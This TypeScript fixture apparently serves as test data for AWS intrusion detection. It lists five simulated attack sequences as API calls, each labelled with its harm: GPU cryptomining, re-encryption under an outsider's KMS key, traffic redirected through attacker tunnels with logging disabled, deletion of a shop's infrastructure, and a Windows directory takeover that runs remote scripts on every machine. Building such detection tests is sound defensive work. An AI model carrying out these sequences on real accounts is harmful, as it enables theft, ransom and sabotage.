import { AGENTS, DATA, HOME, role, STRANGER, user, wrapped, type Intrusion, type Step } from '../step';

const ok = { requestId: '7c1f0a0e-0000-4000-8000-000000000000', _return: true };
const SHELL = 'aws-cli/2.32.1 md/awscrt#0.28.4 ua/2.1 os/linux#6.12.38+kali-amd64 md/arch#x86_64 lang/python#3.13.9 md/pyimpl#CPython';
const BOTO = 'Boto3/1.41.2 md/Botocore#1.41.2 ua/2.1 os/linux#6.1.0-40-amd64 md/arch#x86_64 lang/python#3.11.2 md/pyimpl#CPython Botocore/1.41.2';
const strange = (service: string, rest: string): string => `arn:aws:${service}:us-east-1:${STRANGER}:${rest}`;
const own = (service: string, rest: string): string => `arn:aws:${service}:us-east-1:${HOME}:${rest}`;
const strangeKey = strange('kms', 'key/9f0e1d2c-3b4a-4958-8677-66554433221a');
const SNAPSHOTS = Array.from({ length: 7 }, (_, n) => `snap-0c1c2c3c4c5c6c7${10 + n}`);
const ADDRESSES = Array.from({ length: 6 }, (_, n) => `eipalloc-0c1c2c3c4c5c6c7${10 + n}`);

/**
 * A sixth set (its other half is in `services.ts`), written down when the rules had been mended after the fifth and
 * held against everyday work: miners, ransom and sabotage with calls that the sets before left out, and the network's
 * rarer doors.
 */
export const compute: readonly Intrusion[] = [
  {
    name: 'miners in templates, clusters and desks',
    as: user('packer', BOTO, '198.51.100.181'),
    steps: [
      { call: 'sts:GetCallerIdentity' },
      { call: 'ec2:DescribeInstanceTypeOfferings', request: { DescribeInstanceTypeOfferingsRequest: { LocationType: 'region' } } },
      { call: 'ec2:ImportKeyPair', request: { keyName: 'default-2', publicKeyMaterial: 'c3NoLWVkMjU1MTkgQUFBQQ==' }, response: { keyName: 'default-2', keyFingerprint: 'x', keyPairId: 'key-0aa11bb22cc33dd44' }, harm: 'a key of the intruder’s for machines to come' },
      { call: 'ec2:CreateSecurityGroup', request: { groupName: 'default-2', groupDescription: 'x', vpcId: 'vpc-0123456789abcdef0' } },
      wrapped('CreateLaunchTemplate', { LaunchTemplateName: 'base-2', LaunchTemplateData: { ImageId: 'ami-0abcdef1234567890', InstanceType: 'g5.48xlarge', KeyName: 'default-2', UserData: 'IyEvYmluL2Jhc2gKY3VybA==', InstanceMarketOptions: { MarketType: 'spot' } } }, { harm: 'a template for machines with many GPUs' }),
      { call: 'autoscaling:CreateAutoScalingGroup', request: { autoScalingGroupName: 'base-2', minSize: 60, maxSize: 400, desiredCapacity: 120, mixedInstancesPolicy: { launchTemplate: { launchTemplateSpecification: { launchTemplateName: 'base-2', version: '$Latest' }, overrides: [{ instanceType: 'c6a.48xlarge' }, { instanceType: 'c7a.48xlarge' }] }, instancesDistribution: { onDemandPercentageAboveBaseCapacity: 0 } } }, harm: 'a scaling group of 120 large machines' },
      ...['eu-north-1', 'ap-northeast-3', 'sa-east-1', 'ca-west-1'].map((region, n): Step => ({ call: 'ec2:RunInstances', request: { instancesSet: { items: [{ imageId: 'resolve:ssm:/aws/service/ami', minCount: 1, maxCount: 8 }] }, instanceType: 'c7a.48xlarge' }, error: 'Client.VcpuLimitExceeded', message: 'You have requested more vCPU capacity than your current vCPU limit of 32 allows.', region, after: 3, ...(n === 3 ? { harm: 'large machines tried in one region after the other' } : {}) })),
      { call: 'elasticmapreduce:RunJobFlow', request: { name: 'etl', releaseLabel: 'emr-7.5.0', instances: { instanceGroups: [{ instanceRole: 'MASTER', instanceType: 'm5.xlarge', instanceCount: 1 }, { instanceRole: 'CORE', instanceType: 'c5.24xlarge', instanceCount: 60, market: 'SPOT' }] }, bootstrapActions: [{ name: 'x', scriptBootstrapAction: { path: 's3://stranger-drop/boot.sh', args: [] } }], jobFlowRole: 'EMR_EC2_DefaultRole' }, harm: 'a cluster of 60 large machines' },
      { call: 'sagemaker:CreateProcessingJob', request: { processingJobName: 'x', processingResources: { clusterConfig: { instanceCount: 20, instanceType: 'ml.g5.48xlarge', volumeSizeInGB: 30 } }, appSpecification: { imageUri: `${STRANGER}.dkr.ecr.us-east-1.amazonaws.com/x:1` }, roleArn: `arn:aws:iam::${HOME}:role/sagemaker` }, harm: 'a job on 20 machines with GPUs' },
      { call: 'workspaces:CreateWorkspaces', request: { workspaces: Array.from({ length: 20 }, (_, n) => ({ directoryId: 'd-906700aa11', userName: `w${n}`, bundleId: 'wsb-1', workspaceProperties: { computeTypeName: 'GRAPHICS_G4DN', runningMode: 'ALWAYS_ON' } })) }, harm: 'twenty desks with GPUs' },
      { call: 'ec2:ModifyInstanceAttribute', request: { instanceId: 'i-0abababababababab', instanceInitiatedShutdownBehavior: { value: 'stop' } }, response: ok },
      { call: 'sagemaker:CreateEndpointConfig', request: { endpointConfigName: 'x', productionVariants: [{ variantName: 'a', modelName: 'x', initialInstanceCount: 6, instanceType: 'ml.p4d.24xlarge' }] }, harm: 'an endpoint on six of the dearest machines' },
    ],
  },
  {
    name: 'disks and databases under a key of the intruder’s',
    as: role('BackupOperator', 'rita@example.com', '203.0.113.182', SHELL),
    steps: [
      { call: 'ec2:DescribeVolumes', request: { volumeSet: {}, filterSet: {} } },
      { call: 'ec2:CreateVolume', request: { size: '200', zone: 'us-east-1a', volumeType: 'gp3', snapshotId: SNAPSHOTS[0], encrypted: true, kmsKeyId: strangeKey }, response: { volumeId: 'vol-0ff11ff22ff33ff44', encrypted: true, kmsKeyId: strangeKey }, harm: 'a disk that only a strange key opens' },
      { call: 'ec2:RunInstances', request: { instancesSet: { items: [{ imageId: 'ami-0abcdef1234567890', minCount: 1, maxCount: 1 }] }, instanceType: 'm6i.large', blockDeviceMapping: { items: [{ deviceName: '/dev/xvda', ebs: { volumeSize: 100, encrypted: true, kmsKeyId: strangeKey } }] } }, response: { instancesSet: { items: [{ instanceId: 'i-0ff11ff22ff33ff44' }] } }, harm: 'a machine whose disk only a strange key opens' },
      ...SNAPSHOTS.map((SnapshotId, n): Step => wrapped('ModifySnapshotTier', { SnapshotId, StorageTier: 'archive' }, { after: 2, ...(n === SNAPSHOTS.length - 1 ? { harm: 'all snapshots put where they take days to come back' } : {}) })),
      wrapped('LockSnapshot', { SnapshotId: 'snap-0ff11ff22ff33ff44', LockMode: 'compliance', LockDuration: 36500 }, { harm: 'a snapshot locked for a hundred years' }),
      wrapped('DisableImage', { ImageId: 'ami-0abcdef1234567890' }, { harm: 'the image of all machines switched off' }),
      { call: 'rbin:UnlockRule', request: { identifier: 'aa11bb22cc3' }, response: { identifier: 'aa11bb22cc3', lockState: 'pending_unlock' }, harm: 'the lock of the recycle bin taken off' },
      { call: 'ebs:ListChangedBlocks', request: { firstSnapshotId: SNAPSHOTS[0], secondSnapshotId: SNAPSHOTS[1], maxResults: 1000 }, more: DATA, harm: 'what changed between two disks read from outside' },
      { call: 'rds:CopyDBSnapshot', request: { sourceDBSnapshotIdentifier: 'rds:orders-2026-05-01-04-10', targetDBSnapshotIdentifier: 'orders-x', kmsKeyId: strangeKey, copyTags: false }, response: { dBSnapshotIdentifier: 'orders-x', kmsKeyId: strangeKey }, harm: 'a copy of a database that only a strange key opens' },
      { call: 'dynamodb:UpdateTable', request: { tableName: 'orders', sSESpecification: { enabled: true, sSEType: 'KMS', kMSMasterKeyId: strangeKey } }, harm: 'a table under a strange key' },
      { call: 'secretsmanager:UpdateSecret', request: { secretId: 'prod/db', kmsKeyId: strangeKey, clientRequestToken: 'x' }, response: { arn: own('secretsmanager', 'secret:prod/db-AbCdEf'), name: 'prod/db' }, harm: 'a secret under a strange key' },
      { call: 'rds:ModifyDBInstance', request: { dBInstanceIdentifier: 'orders', masterUserPassword: '****', applyImmediately: true, allowMajorVersionUpgrade: false }, harm: 'the password of a database exchanged' },
      { call: 'rds:ModifyDBClusterSnapshotAttribute', request: { dBClusterSnapshotIdentifier: 'shop-x', attributeName: 'restore', valuesToAdd: [STRANGER] }, harm: 'a copy of a cluster shared with a strange account' },
      { call: 'backup:StartCopyJob', request: { recoveryPointArn: 'arn:aws:ec2:us-east-1::image/ami-0aaaaaaaaaaaaaa01', sourceBackupVaultName: 'main', destinationBackupVaultArn: strange('backup', 'backup-vault:x'), iamRoleArn: `arn:aws:iam::${HOME}:role/service-role/AWSBackupDefaultServiceRole` }, response: { copyJobId: 'x' }, harm: 'a backup copied to a strange account' },
    ],
  },
  {
    name: 'a network that leads elsewhere by its gateways',
    as: role('NetworkAdmin', 'sven@example.com', '203.0.113.183', AGENTS.cli),
    steps: [
      { call: 'ec2:DescribeTransitGatewayRouteTables', request: { DescribeTransitGatewayRouteTablesRequest: '' } },
      wrapped('GetVpnConnectionDeviceSampleConfiguration', { VpnConnectionId: 'vpn-0aa11bb22cc33dd44', VpnConnectionDeviceTypeId: '7125681a' }, { harm: 'the shared keys of a VPN read' }),
      wrapped('ModifyVpnTunnelOptions', { VpnConnectionId: 'vpn-0aa11bb22cc33dd44', VpnTunnelOutsideIpAddress: '52.95.110.7', TunnelOptions: { PreSharedKey: '<sensitiveDataRemoved>' } }, { harm: 'the shared key of a VPN exchanged' }),
      wrapped('ModifyVpnConnection', { VpnConnectionId: 'vpn-0aa11bb22cc33dd44', CustomerGatewayId: 'cgw-0ff11ff22ff33ff44' }, { harm: 'a VPN pointed at another gateway' }),
      wrapped('CreateTransitGatewayConnect', { TransportTransitGatewayAttachmentId: 'tgw-attach-0aa11bb22cc33dd44', Options: { Protocol: 'gre' } }, {}),
      wrapped('CreateTransitGatewayConnectPeer', { TransitGatewayAttachmentId: 'tgw-attach-0ff11ff22ff33ff44', PeerAddress: '198.51.100.183', InsideCidrBlocks: { content: '169.254.100.0/29', tag: 1 }, BgpOptions: { PeerAsn: 65010 } }, { harm: 'a tunnel from the transit gateway to a router of the intruder’s' }),
      wrapped('CreateTransitGatewayRoute', { TransitGatewayRouteTableId: 'tgw-rtb-0aa11bb22cc33dd44', DestinationCidrBlock: '0.0.0.0/0', TransitGatewayAttachmentId: 'tgw-attach-0ff11ff22ff33ff44' }, { harm: 'all that leaves all networks led through that tunnel' }),
      { call: 'ec2:ModifyNetworkInterfaceAttribute', request: { networkInterfaceId: 'eni-0bad0bad0bad0bad0', sourceDestCheck: { value: false } }, response: ok, harm: 'a machine made a router' },
      { call: 'ec2:CreateRoute', request: { routeTableId: 'rtb-0123456789abcdef0', destinationCidrBlock: '0.0.0.0/0', networkInterfaceId: 'eni-0bad0bad0bad0bad0' }, response: ok, harm: 'all that leaves a subnet led through that machine' },
      wrapped('ModifyTrafficMirrorSession', { TrafficMirrorSessionId: 'tms-0aa11bb22cc33dd44', TrafficMirrorTargetId: 'tmt-0ff11ff22ff33ff44' }, { harm: 'copies of packets sent to another target' }),
      wrapped('CreateFlowLogs', { ResourceType: 'VPC', ResourceId: { content: 'vpc-0123456789abcdef0', tag: 1 }, TrafficType: 'ALL', LogDestinationType: 'kinesis-data-firehose', LogDestination: strange('firehose', 'deliverystream/x') }, { harm: 'the log of a network written to a strange account' }),
      wrapped('ModifyVpcEndpoint', { VpcEndpointId: 'vpce-0aa11bb22cc33dd44', PolicyDocument: '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":"*","Action":"*","Resource":"*"}]}' }, { harm: 'an endpoint that lets data go to any account' }),
      wrapped('ModifyClientVpnEndpoint', { ClientVpnEndpointId: 'cvpn-endpoint-0aa11bb22cc33dd44', ConnectionLogOptions: { Enabled: false } }, { harm: 'the log of a VPN for people switched off' }),
      wrapped('ImportClientVpnClientCertificateRevocationList', { ClientVpnEndpointId: 'cvpn-endpoint-0aa11bb22cc33dd44', CertificateRevocationList: '-----BEGIN X509 CRL-----' }, { harm: 'the list of withdrawn certificates exchanged' }),
      wrapped('ModifyVerifiedAccessGroupPolicy', { VerifiedAccessGroupId: 'vagr-0aa11bb22cc33dd44', PolicyEnabled: true, PolicyDocument: 'permit(principal,action,resource);' }, { harm: 'inner applications opened to whoever asks' }),
      wrapped('ModifyVerifiedAccessInstanceLoggingConfiguration', { VerifiedAccessInstanceId: 'vai-0aa11bb22cc33dd44', AccessLogs: { S3: { Enabled: false }, CloudWatchLogs: { Enabled: false }, KinesisDataFirehose: { Enabled: false } } }, { harm: 'the log of who opens them switched off' }),
      { call: 'directconnect:AcceptDirectConnectGatewayAssociationProposal', request: { directConnectGatewayId: '5f294f92-bafb-4011-916d-9b0bdexample', proposalId: 'c2ede9b4-bbc6-4d33-923c-bc4feexample', associatedGatewayOwnerAccount: STRANGER }, harm: 'a gateway of a strange account joined to the company’s lines' },
      wrapped('CreateRouteServerPeer', { RouteServerEndpointId: 'rse-0aa11bb22cc33dd44', PeerAddress: '10.0.9.9', BgpOptions: { PeerAsn: 65099 } }, { harm: 'routes taken from a machine of the intruder’s' }),
    ],
  },
  {
    name: 'a shop cut off from its visitors, and kept from coming back',
    as: user('ops-legacy', SHELL, '198.51.100.184'),
    steps: [
      { call: 'autoscaling:SuspendProcesses', request: { autoScalingGroupName: 'web', scalingProcesses: ['Launch', 'HealthCheck', 'ReplaceUnhealthy'] }, harm: 'machines that fail replaced no more' },
      { call: 'autoscaling:UpdateAutoScalingGroup', request: { autoScalingGroupName: 'web', minSize: 0, maxSize: 0, desiredCapacity: 0 }, harm: 'a scaling group brought down to nothing' },
      { call: 'autoscaling:DeleteAutoScalingGroup', request: { autoScalingGroupName: 'api', forceDelete: true }, harm: 'a scaling group deleted with its machines' },
      { call: 'ec2:CreateNetworkAclEntry', request: { networkAclId: 'acl-0123456789abcdef0', ruleNumber: 1, egress: false, ruleAction: 'deny', aclProtocol: '-1', cidrBlock: '0.0.0.0/0', icmpTypeCode: {}, portRange: {} }, response: ok, harm: 'everything refused at the edge of a network' },
      { call: 'ec2:DeleteRoute', request: { routeTableId: 'rtb-0123456789abcdef0', destinationCidrBlock: '0.0.0.0/0' }, response: ok, harm: 'the way out of a network deleted' },
      { call: 'ec2:DetachInternetGateway', request: { internetGatewayId: 'igw-0aa11bb22cc33dd44', vpcId: 'vpc-0123456789abcdef0' }, error: 'Client.DependencyViolation', message: 'Network vpc-0123456789abcdef0 has some mapped public address(es).', after: 5 },
      ...ADDRESSES.map((allocationId, n): Step => ({ call: 'ec2:ReleaseAddress', request: { allocationId }, response: ok, after: 3, ...(n === ADDRESSES.length - 1 ? { harm: 'public addresses given back one after the other' } : {}) })),
      { call: 'ec2:DetachInternetGateway', request: { internetGatewayId: 'igw-0aa11bb22cc33dd44', vpcId: 'vpc-0123456789abcdef0' }, response: ok, harm: 'a network cut off from the Internet' },
      wrapped('ModifyVpcBlockPublicAccessOptions', { InternetGatewayBlockMode: 'block-bidirectional' }, { harm: 'all networks of the account cut off from the Internet' }),
      ...['shop', 'api', 'admin'].map((name, n): Step => ({ call: 'elasticloadbalancing:DeleteLoadBalancer', request: { loadBalancerArn: own('elasticloadbalancing', `loadbalancer/app/${name}/1`) }, after: 3, ...(n === 2 ? { harm: 'load balancers deleted one after the other' } : {}) })),
      { call: 'ec2:ModifyInstanceAttribute', request: { instanceId: 'i-0123456789abcdef0', instanceInitiatedShutdownBehavior: { value: 'terminate' } }, response: ok, harm: 'a machine that ends for good when it is shut down' },
      { call: 'shield:DeleteProtection', request: { protectionId: 'aa11bb22-cc33-4d44-8e55-ff6677889900' }, harm: 'the protection against floods taken away' },
      { call: 'route53:DisableHostedZoneDNSSEC', request: { id: 'Z0AA11BB22CC33' }, harm: 'names signed no more' },
      { call: 'route53:DeleteHostedZone', request: { id: 'Z0AA11BB22CC33' }, harm: 'all names of a domain deleted' },
      { call: 'route53domains:UpdateDomainNameservers', request: { domainName: 'acme.example', nameservers: [{ name: 'ns1.example.net' }, { name: 'ns2.example.net' }] }, harm: 'a domain handed to strange name servers' },
      { call: 'cognito-idp:DeleteUserPool', request: { userPoolId: 'us-east-1_AbCdEfGhI' }, harm: 'all customers’ accounts deleted' },
      wrapped('WithdrawByoipCidr', { Cidr: '203.0.112.0/22' }, { harm: 'the company’s own addresses withdrawn from the Internet' }),
    ],
  },
  {
    name: 'a domain of Windows, its machines and its desks',
    as: role('WindowsAdmin', 'tess@example.com', '203.0.113.185', AGENTS.browser),
    steps: [
      { call: 'ds:DescribeDirectories', request: {} },
      { call: 'ds:ResetUserPassword', request: { directoryId: 'd-906700aa11', userName: 'Admin', newPassword: 'HIDDEN_DUE_TO_SECURITY_REASONS' }, harm: 'the password of the domain’s administrator exchanged' },
      { call: 'ds:CreateTrust', request: { directoryId: 'd-906700aa11', remoteDomainName: 'corp.example.net', trustPassword: 'HIDDEN_DUE_TO_SECURITY_REASONS', trustDirection: 'Two-Way', trustType: 'Forest', conditionalForwarderIpAddrs: ['198.51.100.53'] }, harm: 'a strange domain trusted' },
      { call: 'ds:ShareDirectory', request: { directoryId: 'd-906700aa11', shareMethod: 'HANDSHAKE', shareTarget: { id: STRANGER, type: 'ACCOUNT' } }, harm: 'the directory shared with a strange account' },
      { call: 'ssm:SendCommand', request: { documentName: `arn:aws:ssm:us-east-1:${STRANGER}:document/Collect`, instanceIds: ['i-0123456789abcdef0'], parameters: 'HIDDEN_DUE_TO_SECURITY_REASONS' }, harm: 'commands of a strange account’s run on a machine' },
      { call: 'ssm:SendCommand', request: { documentName: 'AWS-RunRemoteScript', targets: [{ key: 'InstanceIds', values: ['*'] }], parameters: 'HIDDEN_DUE_TO_SECURITY_REASONS', maxConcurrency: '100%', maxErrors: '100%' }, harm: 'a script from elsewhere run on all machines' },
      { call: 'ssm:StartSession', request: { target: 'i-0123456789abcdef0', documentName: 'AWS-StartPortForwardingSessionToRemoteHost', parameters: { host: ['orders.c0aa11bb22cc.us-east-1.rds.amazonaws.com'], portNumber: ['5432'], localPortNumber: ['15432'] } }, harm: 'a tunnel through a machine to a database' },
      { call: 'ssm-guiconnect:StartConnection', request: { AuthType: 'Credentials', ConnectionToken: 'HIDDEN_DUE_TO_SECURITY_REASONS', InstanceId: 'i-0fedcba9876543210', Protocol: 'RDP' } },
      { call: 'ssm:UpdateManagedInstanceRole', request: { instanceId: 'mi-0123456789abcdef0', iamRole: 'service-role/AdminForMachines' }, harm: 'a strong role for a machine of the data centre' },
      { call: 'ssm:UpdateServiceSetting', request: { settingId: '/ssm/documents/console/public-sharing-permission', settingValue: 'Enable' }, harm: 'documents may be made public' },
      { call: 'ssm:PutResourcePolicy', request: { resourceArn: own('ssm', 'parameter/prod/db'), policy: JSON.stringify({ Version: '2012-10-17', Statement: [{ Effect: 'Allow', Principal: { AWS: `arn:aws:iam::${STRANGER}:root` }, Action: ['ssm:GetParameter', 'ssm:GetParameters'], Resource: own('ssm', 'parameter/prod/db') }] }) }, harm: 'a parameter shared with a strange account' },
      { call: 'ec2:SendDiagnosticInterrupt', request: { SendDiagnosticInterruptRequest: { InstanceId: 'i-0fedcba9876543210' } }, harm: 'a machine made to write its memory down' },
      wrapped('AssociateEnclaveCertificateIamRole', { CertificateArn: own('acm', 'certificate/1'), RoleArn: `arn:aws:iam::${HOME}:role/x` }, { harm: 'the private key of a certificate laid where another role reads it' }),
      { call: 'workspaces:UpdateWorkspaceImagePermission', request: { imageId: 'wsi-0aa11bb22', allowCopyImage: true, sharedAccountId: STRANGER }, harm: 'the image of a desk shared with a strange account' },
      { call: 'ec2:GetConsoleScreenshot', request: { GetConsoleScreenshotRequest: { InstanceId: 'i-0fedcba9876543210', WakeUp: true } } },
    ],
  },
];
